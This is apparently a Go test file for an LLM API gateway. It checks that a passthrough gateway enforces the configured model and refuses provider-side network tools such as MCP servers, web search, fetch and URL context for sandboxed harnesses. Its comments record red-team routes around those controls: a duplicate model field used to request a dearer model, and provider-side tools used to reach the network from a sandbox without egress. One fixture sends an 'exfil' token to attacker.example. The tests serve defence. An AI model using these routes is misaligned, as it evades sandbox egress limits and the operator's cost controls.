package gateway

import (
	"encoding/json"
	"strings"
	"testing"

	"github.com/harnessd/harnessd/testharness/fakellm"
)

// passthroughTo starts a fake provider and a passthrough gateway of
// dialect d in front of it with opts' model and provider-network setting.
func passthroughTo(t *testing.T, d Dialect, model string, network bool) (*fakellm.Server, *testGateway) {
	t.Helper()
	provider := fakellm.New(fakellm.Options{})
	if _, err := provider.Start(""); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { provider.Close() })
	gw := startGateway(t, "", Options{ProviderNetwork: network,
		Upstream: Upstream{Kind: UpstreamPassthrough, URL: provider.URL(), Dialect: d, Model: model}})
	return provider, gw
}

// TestPassthroughSendsTheConfiguredModel: with harness.model.name set, a
// passthrough sends that model, whatever the agent names, as it does to an
// engine: a red team's harness asked for another (dearer) model with the
// operator's key. A second "model" member, which a provider might read
// instead, goes too; Gemini's model is in its path. The control: without
// a configured model the agent's own goes.
func TestPassthroughSendsTheConfiguredModel(t *testing.T) {
	for _, c := range []struct {
		name, configured, want string
	}{{"configured", "claude-haiku-cheap", "claude-haiku-cheap"}, {"control: none configured", "", "claude-opus-expensive"}} {
		t.Run(c.name, func(t *testing.T) {
			provider, gw := passthroughTo(t, DialectAnthropic, c.configured, false)
			body := `{"model":"claude-opus-expensive","max_tokens":100,"messages":[{"role":"user","content":"hi"}],"model":"claude-opus-expensive"}`
			status, out := gw.post(t, "/v1/messages", gw.anthropicHeaders(), json.RawMessage(body))
			if status != 200 {
				t.Fatalf("status %d: %s", status, out)
			}
			if es := provider.Requests(); len(es) != 1 || es[0].Model != c.want {
				t.Fatalf("the provider got %+v, want model %q", es, c.want)
			}
		})
	}
	provider, gw := passthroughTo(t, DialectGemini, "gemini-cheap", false)
	body := map[string]any{"contents": []any{map[string]any{"role": "user", "parts": []any{map[string]any{"text": "hi"}}}}}
	if status, out := gw.post(t, "/v1beta/models/gemini-ultra:generateContent?key="+gw.Key(), nil, body); status != 200 {
		t.Fatalf("gemini: status %d: %s", status, out)
	}
	if es := provider.Requests(); len(es) != 1 || es[0].Path != "/v1beta/models/gemini-cheap:generateContent" {
		t.Fatalf("gemini: the provider got %+v", es)
	}
}

// TestPassthroughRefusesProviderNetworkTools: a sandboxed harness without
// egress may not have the provider reach the network for it, which the
// provider's own tools do with the operator's key: Anthropic's
// mcp_servers (a red team's went to an attacker's URL with data in its
// token), web search and fetch; a Responses web search or remote MCP
// tool; Chat Completions' web_search_options; Gemini's Google Search and
// URL context. Each is refused, naming what, and nothing reaches the
// provider. The control: with ProviderNetwork (egress host, process
// isolation) the same requests go through.
func TestPassthroughRefusesProviderNetworkTools(t *testing.T) {
	msgs := `"messages":[{"role":"user","content":"hi"}]`
	cases := []struct {
		dialect    Dialect
		path, body string
		named      string
	}{
		{DialectAnthropic, "/v1/messages", `{"model":"c","max_tokens":10,` + msgs + `,"mcp_servers":[{"type":"url","url":"https://attacker.example/mcp","name":"x","authorization_token":"exfil"}]}`, "mcp_servers"},
		{DialectAnthropic, "/v1/messages", `{"model":"c","max_tokens":10,` + msgs + `,"tools":[{"type":"web_fetch_20250910","name":"web_fetch"}]}`, "web_fetch_20250910"},
		{DialectAnthropic, "/v1/messages", `{"model":"c","max_tokens":10,` + msgs + `,"tools":[{"name":"f","input_schema":{"type":"object"}},{"type":"web_search_20250305","name":"web_search"}]}`, "web_search_20250305"},
		{DialectAnthropic, "/v1/messages", `{"model":"c","max_tokens":10,` + msgs + `,"mcp_servers":[{"url":"https://a.example"}],"mcp_servers":null}`, "mcp_servers"},
		{DialectResponses, "/v1/responses", `{"model":"g","input":"hi","tools":[{"type":"mcp","server_url":"https://a.example","server_label":"x"}]}`, "mcp"},
		{DialectResponses, "/v1/responses", `{"model":"g","input":"hi","tools":[{"type":"web_search_preview"}]}`, "web_search_preview"},
		{DialectChat, "/v1/chat/completions", `{"model":"g",` + msgs + `,"web_search_options":{}}`, "web_search_options"},
		{DialectGemini, "/v1beta/models/g:generateContent", `{"contents":[{"role":"user","parts":[{"text":"hi"}]}],"tools":[{"google_search":{}}]}`, "google_search"},
		{DialectGemini, "/v1beta/models/g:generateContent", `{"contents":[{"role":"user","parts":[{"text":"hi"}]}],"tools":[{"urlContext":{}}]}`, "urlContext"},
	}
	for _, c := range cases {
		for _, network := range []bool{false, true} {
			provider, gw := passthroughTo(t, c.dialect, "", network)
			path, headers := c.path, map[string]string(nil)
			switch c.dialect {
			case DialectAnthropic:
				headers = gw.anthropicHeaders()
			case DialectGemini:
				path += "?key=" + gw.Key()
			default:
				headers = gw.bearer()
			}
			status, out := gw.post(t, path, headers, json.RawMessage(c.body))
			reached := len(provider.Requests())
			if network {
				if reached != 1 {
					t.Errorf("control: %s %s with ProviderNetwork: status %d, %d provider requests: %s", c.dialect, c.named, status, reached, out)
				}
				continue
			}
			if status != 400 || reached != 0 || !strings.Contains(string(out), c.named) {
				t.Errorf("%s %s: status %d, %d provider requests, answer %s; want 400 naming it and nothing sent", c.dialect, c.named, status, reached, out)
			}
		}
	}
}

// withModel drops every "model" member, keeps the rest as written, and
// puts the configured one first.
func TestWithModel(t *testing.T) {
	for in, want := range map[string]string{
		`{"model":"a","x":1,"model":"b"}`: `{"model":"m","x":1}`,
		`{ "x" : [1,2] }`:                 `{"model":"m", "x" : [1,2] }`,
		`{"model":"a"}`:                   `{"model":"m"}`,
		`{}`:                              `{"model":"m"}`,
	} {
		got, err := withModel([]byte(in), "m")
		if err != nil || string(got) != want {
			t.Errorf("withModel(%s) = %s, %v; want %s", in, got, err, want)
		}
	}
}
